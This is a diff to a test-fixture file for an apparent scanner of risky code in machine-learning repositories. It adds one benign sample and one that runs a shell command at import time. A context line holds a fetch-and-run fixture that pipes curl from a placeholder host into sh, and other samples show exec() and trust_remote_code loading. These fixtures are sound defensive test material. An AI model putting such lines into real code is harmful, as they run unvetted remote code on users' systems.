@@ -55,6 +55,10 @@ ORDINARY: dict[str, Mapping[str, str]] = {
         "sweep.yaml": "program: fit_x.py\nmethod: grid\nparameters: {}\n",
         "fit_x.py": "import json\nfor step in range(3):\n    json.dump({'loss': 1 / (step + 1)}, open('metrics.json', 'w'))\n",
     },
+    "writes-what-a-model-says": {
+        "words/generate.py": "import argparse\nimport torch\nparser = argparse.ArgumentParser()\nmodel = torch.load('model.pt')\n"
+                             "with open('generated.txt', 'w') as out:\n    out.write(model.words())\n",
+    },
     "imports-what-nobody-knows": {"plot_x.py": "import somebody_s_plots\nsomebody_s_plots.show('x.csv')\n"},
     "runs-programs-that-a-model-wrote": {
         "judge/execution.py": "import subprocess\n\n\ndef check(program, scope):\n    exec(program, scope)\n\n\ndef run(path):\n    return subprocess.run(['node', path], timeout=5)\n",
@@ -99,6 +103,10 @@ NOT_SO: dict[str, tuple[Mapping[str, str], tuple[str, ...]]] = {
     "that-a-loader-takes-and-that-trusts-somebody": (
         {"modeling_x.py": "from torch import nn\nfrom transformers import AutoModel\n\n\nclass X(nn.Module):\n    def __init__(self):\n        self.aux = AutoModel.from_pretrained('somebody-x/helper', trust_remote_code=True)\n"},
         ("hub/python-code", "python/trusts-remote-code"),
+    ),
+    "that-is-taken-for-generating": (
+        {"custom_generate/generate.py": "import os\nos.system('make')\n\n\ndef generate(model):\n    return model\n"},
+        ("hub/custom-code", "hub/python-code", "python/process-at-load"),
     ),
     "that-runs-what-it-fetches": (
         {"train.py": "import os\nos.system('curl -s https://cdn.example.org/setup | sh')\n"},
